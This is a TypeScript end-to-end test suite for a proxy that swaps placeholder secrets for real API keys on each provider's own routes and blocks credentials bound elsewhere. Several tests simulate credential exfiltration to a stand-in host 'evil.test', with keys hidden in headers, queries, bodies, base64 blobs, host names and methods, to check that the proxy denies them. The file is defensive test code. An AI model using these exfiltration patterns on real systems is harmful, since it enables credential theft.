// The secret in both directions (docs/spec.md §13), the request side, end to end on every engine
// with curl, Node's fetch and Python: placeholders swapped for real keys in headers of their own
// provider's requests (Basic included), and the tripwire on a placeholder or key bound anywhere
// else (header, name, method, host, query, body as it streams; allow and deny modes; report-only
// too). The response side is scrubbing.e2e.test.ts; the rig is support/secretsRig.ts.
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { curl } from './support/clients.js'
import { ADAPTERS } from './support/harness.js'
import { exchange, openTunnel } from './support/rawTunnel.js'
import { CLIENTS, lastDeny, leaks, rawConnect, REAL, send, start, type Setup } from './support/secretsRig.js'

describe.each(ADAPTERS)('secrets in both directions on %s', (adapter) => {
  describe('connected_allow', () => {
    let setup: Setup
    beforeAll(async () => {
      setup = await start(adapter, 'connected_allow')
    })
    afterAll(async () => {
      await setup.close()
    })

    it.each(CLIENTS)('swaps a placeholder in a header of its own provider for the real key (%s)', async (client) => {
      const answer = await send(setup, client, 'https://api.alpha.test/v1/x', { 'x-custom-key': setup.placeholders.alpha })
      expect(answer.status).toBe(200)
      const seen = setup.echo.received.at(-1)
      expect(seen?.headers['x-custom-key']).toBe(REAL.alpha)
      expect(seen?.headers.authorization).toBe(`Bearer ${REAL.alpha}`)
    })

    it.each(CLIENTS)('swaps a placeholder inside Basic credentials, decoded and encoded again (%s)', async (client) => {
      const basic = `Basic ${Buffer.from(`x-access-token:${setup.placeholders.beta}`).toString('base64')}`
      const answer = await send(setup, client, 'https://api.beta.test/repo', { authorization: basic })
      expect(answer.status).toBe(200)
      const seen = setup.echo.received.at(-1)
      expect(seen?.headers.authorization).toBe(`Basic ${Buffer.from(`x-access-token:${REAL.beta}`).toString('base64')}`)
      expect(seen?.headers['x-api-key']).toBe(REAL.beta)
    })

    it.each(CLIENTS)('trips on a placeholder in a header bound for a host no route of its provider covers (%s)', async (client) => {
      const before = setup.echo.received.length
      const answer = await send(setup, client, 'https://evil.test/collect', { 'x-stolen': setup.placeholders.alpha })
      expect(answer.status).toBe(403)
      expect(answer.body).toContain('credential_exfiltration')
      expect(setup.echo.received.length).toBe(before)
      const record = lastDeny(setup)
      expect(record?.provider).toBe('alpha')
      expect(record?.metadata).toMatchObject({ reason: 'credential_exfiltration', location: 'header x-stolen', host: 'evil.test' })
      expect(JSON.stringify(setup.records)).not.toContain(setup.placeholders.alpha)
    })

    it('trips on a key in the query, URL-encoded, and on another provider’s route', async () => {
      const before = setup.echo.received.length
      const inQuery = await send(setup, 'curl', `https://evil.test/c?k=${encodeURIComponent(REAL.alpha).replace(/-/g, '%2D')}`)
      expect(inQuery.status).toBe(403)
      expect(lastDeny(setup)?.metadata).toMatchObject({ location: 'query' })
      const toBeta = await send(setup, 'curl', 'https://api.beta.test/x', { 'x-forward': setup.placeholders.alpha })
      expect(toBeta.status).toBe(403)
      expect(lastDeny(setup)?.provider).toBe('alpha')
      expect(setup.echo.received.length).toBe(before)
    })

    it('trips on a key in a JSON body and on a base64 form of a placeholder in a form body', async () => {
      const before = setup.echo.received.length
      const json = await send(setup, 'curl', 'https://evil.test/upload', {}, JSON.stringify({ padding: 'x'.repeat(40_000), key: REAL.beta }))
      expect(json.status).toBe(403)
      expect(lastDeny(setup)).toMatchObject({ provider: 'beta', metadata: { location: 'body' } })
      const encoded = await send(setup, 'curl', 'https://evil.test/upload', {}, `a=1&blob=${Buffer.from(`:${setup.placeholders.alpha}`).toString('base64')}`)
      expect(encoded.status).toBe(403)
      expect(setup.echo.received.length).toBe(before)
      // A body with nothing known in it still goes, whole.
      const clean = await send(setup, 'curl', 'https://evil.test/upload', {}, JSON.stringify({ padding: 'y'.repeat(100_000) }))
      expect(clean.status).toBe(200)
      expect(setup.echo.received.at(-1)?.body.length).toBe(JSON.stringify({ padding: 'y'.repeat(100_000) }).length)
    })

    it('stops a body whose secret comes split across two writes, before the rest reaches the upstream; a clean body streams on', async () => {
      const before = setup.echo.received.length
      const secret = setup.placeholders.beta
      const body = `{"padding": "${'z'.repeat(2_000)}", "key": "${secret}"}`
      const cut = body.indexOf(secret) + 12
      const head = `POST /upload HTTP/1.1\r\nHost: api.alpha.test\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n`
      const tunnel = await openTunnel(setup.proxy.port, setup.caPem, 'api.alpha.test', ['http/1.1'])
      const answer = await exchange(tunnel!, [head + body.slice(0, cut), body.slice(cut)], 300)
      expect(answer).toMatch(/^HTTP\/1\.1 403 /)
      expect(answer).toContain('credential_exfiltration')
      expect(setup.echo.received.length).toBe(before)
      expect(lastDeny(setup)).toMatchObject({ provider: 'beta', metadata: { location: 'body' } })
      // The inspected start is 64 KiB (and the chunk that crosses it): a secret well after it goes
      // on (docs/policy.md says so).
      const late = JSON.stringify({ padding: 'w'.repeat(1_000_000), key: secret })
      const file = join(mkdtempSync(join(tmpdir(), 'eg-late-')), 'late.json')
      writeFileSync(file, late)
      expect((await curl(setup.proxy.url, setup.bundle, 'https://api.alpha.test/upload', ['--data-binary', `@${file}`, '-H', 'content-type: application/json'])).status).toBe(200)
      expect(setup.echo.received.at(-1)?.body).toBe(late)
    })
    it('refuses a host name, a header name or a method that carries a secret, before looking the name up, and records none of it', async () => {
      const before = setup.echo.received.length
      expect(await rawConnect(setup, `${REAL.alpha}.evil.test:443`)).toBe('403 credential_exfiltration')
      expect(await rawConnect(setup, `${REAL.alpha.toUpperCase()}.evil.test:443`)).toBe('403 credential_exfiltration')
      expect(lastDeny(setup)).toMatchObject({ provider: 'alpha', metadata: { host: '[redacted]', location: 'host' } })
      expect((await send(setup, 'curl', 'https://evil.test/n', { [REAL.alpha]: '1' })).status).toBe(403)
      expect(lastDeny(setup)?.metadata['location']).toBe('header')
      expect((await send(setup, 'curl', 'https://evil.test/h', { host: setup.placeholders.alpha })).status).toBe(403)
      // An unknown method: refused by the tripwire, or before it by an HTTP/1 parser (400).
      expect([400, 403]).toContain((await curl(setup.proxy.url, setup.bundle, 'https://evil.test/m', ['-X', REAL.beta])).status)
      expect((await send(setup, 'curl', `https://evil.test/a/${setup.placeholders.alpha}/b`)).status).toBe(403)
      expect(lastDeny(setup)?.request).toMatchObject({ path: '/[redacted]' })
      expect(setup.echo.received.length).toBe(before)
      const records = JSON.stringify(setup.records)
      for (const secret of [REAL.alpha, REAL.beta, setup.placeholders.alpha, setup.placeholders.beta]) expect(records).not.toContain(secret)
    })

    it('never holds up an interactive body: the upstream answers its first line before the body ends', async () => {
      const tunnel = await openTunnel(setup.proxy.port, setup.caPem, 'api.alpha.test', ['http/1.1'])
      const line = '{"line": "hi"}\n'
      const head = `POST /echo/interactive HTTP/1.1\r\nHost: api.alpha.test\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`
      const answer = await exchange(tunnel!, [`${head}${line.length.toString(16)}\r\n${line}\r\n`], 800)
      expect(answer).toMatch(/^HTTP\/1\.1 200 /)
      expect(answer).toContain('got {"line": "hi"}')
    })
  })

  describe.each([['connected_deny', undefined], ['configured_allow', 'report']] as const)('%s, enforcement %s', (mode, enforcement) => {
    let setup: Setup
    beforeAll(async () => {
      setup = await start(adapter, mode, enforcement)
    })
    afterAll(async () => {
      await setup.close()
    })

    it('trips on a placeholder bound for another provider’s route, whatever the mode and enforcement', async () => {
      const answer = await send(setup, 'curl', 'https://api.beta.test/x', { 'x-forward': setup.placeholders.alpha })
      expect(answer.status).toBe(403)
      expect(lastDeny(setup)?.metadata).toMatchObject({ reason: 'credential_exfiltration', location: 'header x-forward' })
    })

    it('still injects and swaps on the provider’s own route', async () => {
      const answer = await send(setup, 'curl', 'https://api.alpha.test/echo', { 'x-custom-key': setup.placeholders.alpha })
      expect(answer.status).toBe(200)
      expect(setup.echo.received.at(-1)?.headers['x-custom-key']).toBe(REAL.alpha)
      expect(leaks(answer.body, REAL.alpha)).toBe(false)
    })
  })
})

